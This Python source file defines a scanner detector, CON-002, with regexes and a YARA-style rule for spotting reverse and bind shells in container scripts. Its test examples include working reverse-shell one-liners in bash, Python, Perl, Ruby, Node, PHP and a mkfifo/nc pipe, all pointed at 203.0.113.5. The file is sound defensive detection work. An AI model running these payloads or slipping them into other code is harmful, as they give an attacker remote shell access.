"""CON-002: a script or program that hands a shell to whoever it calls or whoever calls it."""

from __future__ import annotations

from periderm.engines.content.judging import Detector, Kind
from periderm.model.detector import DetectorSpec, Example
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

DETECTOR = Detector(
    spec=DetectorSpec(
        id="CON-002",
        title=Text("Find a reverse or bind shell", "发现反弹或绑定 shell"),
        message=Text("Find a reverse or bind shell: {object}", "发现反弹或绑定 shell：{object}"),
        severity=Severity.CRITICAL,
        maturity=Maturity.STABLE,
        remediation=Text(
            "Isolate the container, take the file as evidence, and look for the address that it names in all connections.",
            "隔离该容器，将文件留作证据，并在所有连接中查找其中的地址。",
        ),
        techniques=(
            "T1059.004",
            "T1059.006",
        ),
        behaviours=(
            3,
            4,
        ),
        fires=(
            Example(b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", "bash and its network files"),
            Example(
                b"import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n",
                "Python",
            ),
            Example(
                b"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 9001 > /tmp/f",
                "a pipe with a name",
            ),
            Example(
                b'use Socket;$i="203.0.113.5";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\'tcp\'));if(connect(S,sockaddr_in(1,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
                "Perl",
            ),
            Example(
                b"require 'socket'; f=TCPSocket.open('203.0.113.5',4444).to_i; exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
                "Ruby",
            ),
            Example(
                b"(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.5',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});})()",
                "Node",
            ),
            Example(b"<?php $s=fsockopen('203.0.113.5',4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$x);", "PHP"),
        ),
        quiet=(
            Example(b"#!/bin/bash\nexec 3<>/dev/tcp/localhost/5432 && echo up\n", "waits for a port"),
            Example(b"import socket\ns=socket.create_connection(('db',5432))\nprint('ok')\n", "a health check"),
            Example(b"#!/bin/sh\nmkfifo /run/logpipe\ncat /run/logpipe | logger -t app &\n", "a pipe for logs"),
            Example(b"const net=require('net'); net.connect(80,'web')", "a plain client"),
        ),
    ),
    quick=(
        (rb"/dev/(tcp|udp)/", rb"sh\s+-i\b|exec\s+\d|while\s+read"),
        (rb"/inet/(tcp|udp)/0/", rb"getline"),
        (rb"\btelnet\s", rb"\|\s*(/bin/)?(ba|z|da)?sh\b"),
        (rb"zsh/net/tcp",),
        (rb"socket\.socket\s*\(", rb"\.recv\s*\(", rb"shell\s*=\s*True|os\.(popen|system)\s*\("),
        (rb"TCPSocket\.(open|new)", rb"IO\.popen"),
        (rb"mkfifo", rb"sh\s+-i\b"),
        (rb"\b(nc|ncat|netcat|socat)\s", rb"-[ec]\s*\S*sh\b|--sh-exec|exec:"),
        (rb"socket\.socket\s*\(", rb"dup2\s*\(|pty\.spawn\s*\(|subprocess\.(call|Popen|run)\s*\(", rb"\.(connect|bind)\s*\("),
        (rb"open\s*\(\s*STDIN\s*,\s*['\"]>&",),
        (rb"TCPSocket\.(open|new)", rb"/bin/(ba)?sh"),
        (rb"child_process", rb"['\"](node:)?net['\"]", rb"\.stdin"),
        (rb"fsockopen|stream_socket_client|socket_connect", rb"(proc_open|shell_exec|popen|exec)\s*\(\s*['\"]"),
        (rb"socket\.(tcp|connect)", rb"os\.execute"),
        (rb"ProcessBuilder\s*\(", rb"/bin/(ba)?sh", rb"\bSocket\b"),
    ),
    kinds=(Kind.SCRIPT,),
    source=r"""
    strings:
        $bash = /\b(ba|z|k|da)?sh\s+-i\b[^\n]{0,40}\/dev\/(tcp|udp)\/[^\n]{1,80}/
        $bash_fd = /exec\s+\d{1,3}<>\s*\/dev\/(tcp|udp)\/[^\n;]{1,80}[;\n][^\n]{0,160}\b(sh|bash)\b[^\n]{0,40}[<>]&\s*\d/
        $while = /\/dev\/(tcp|udp)\/[^\n]{1,80}[;\n][^\n]{0,80}while\s+read[^\n]{0,120}\$\w+\s*[^\n]{0,20}[>&]/
        $pipe = /mkfifo\s+(\S{1,60})[^\n]{0,80}(sh|bash)\s+-i[^\n]{0,40}\|\s*(nc|ncat|netcat|telnet|openssl\s+s_client)\b/
        $tool = /\b(nc|ncat|netcat|socat)\b[^\n]{0,80}(-e\s*\/?\S{0,20}sh\b|-c\s*\/?\S{0,20}sh\b|--sh-exec|exec:['"]?(\/bin\/)?(ba)?sh)/ nocase
        $python_dup = /dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*\w{1,3}\s*\)/
        $python_shell = /['"]\/?(bin\/|usr\/bin\/)?(ba|z|da)?sh['"\s]/
        $python_pty = /pty\.spawn\s*\(|subprocess\.(call|Popen|run)\s*\(\s*\[?\s*['"]\/?(bin\/|usr\/bin\/)?(ba|z|da)?sh['"]/
        $python_socket = /socket\.socket\s*\(/
        $python_connect = /\.(connect|bind)\s*\(\s*\(/
        $perl = /open\s*\(\s*STDIN\s*,\s*['"]>&/
        $perl_exec = /exec\s*\(?\s*\{?\s*['"]\/bin\/(ba)?sh/
        $ruby = /TCPSocket\.(open|new)[^\n]{0,120}(exec|spawn)[^\n]{0,40}\/bin\/(ba)?sh/
        $node_net = /require\s*\(\s*['"](node:)?net['"]\s*\)/
        $node_child = /require\s*\(\s*['"](node:)?child_process['"]\s*\)/
        $node_pipe = /\.pipe\s*\(\s*\w+\.stdin\s*\)/
        $php = /(fsockopen|stream_socket_client|socket_connect)\s*\([^;]{0,120};[^\n]{0,300}(proc_open|shell_exec|popen|exec)\s*\(\s*['"][^'"]{0,20}sh/ nocase
        $lua = /socket\.(tcp|connect)[^\n]{0,120}os\.execute\s*\(\s*['"]\/bin\/(ba)?sh/
        $java = /new\s+ProcessBuilder\s*\(\s*\S{0,20}\/bin\/(ba)?sh[^}]{0,300}new\s+(java\.net\.)?Socket/
        $awk = /["']\/inet\/(tcp|udp)\/0\/[^"'\n]{3,80}["'][^\n]{0,300}\|&\s*getline/
        $telnet = /\btelnet\s+\S{3,60}\s+\d{1,5}[^\n|]{0,40}\|\s*(\/bin\/)?(ba|z|da)?sh\b/
        $zsh = /zsh\/net\/tcp[^\n]{0,80}\bztcp\s+\S/
        $ruby_socket = /TCPSocket\.(open|new)\s*\(?/
        $ruby_run = /IO\.popen\s*\(?\s*\w{1,20}\s*[,\)]/
        $received = /=\s*\w{1,20}\.recv\s*\(\s*\d{2,6}\s*\)/
        $commanded = /(subprocess\.\w{2,20}\s*\(\s*\w{1,20}\s*,[^\n]{0,80}shell\s*=\s*True|os\.(popen|system)\s*\(\s*\w{1,20}\s*\))/
    condition:
        filesize < 4MB and (
            any of ($awk, $telnet, $zsh, $bash, $bash_fd, $while, $pipe, $tool, $ruby, $php, $lua, $java)
            or ($python_socket and $python_connect and (($python_dup and $python_shell) or $python_pty))
            or ($python_socket and $python_connect and $received and $commanded)
            or ($ruby_socket and $ruby_run)
            or ($perl and $perl_exec)
            or ($node_net and $node_child and $node_pipe)
        )
""",
)
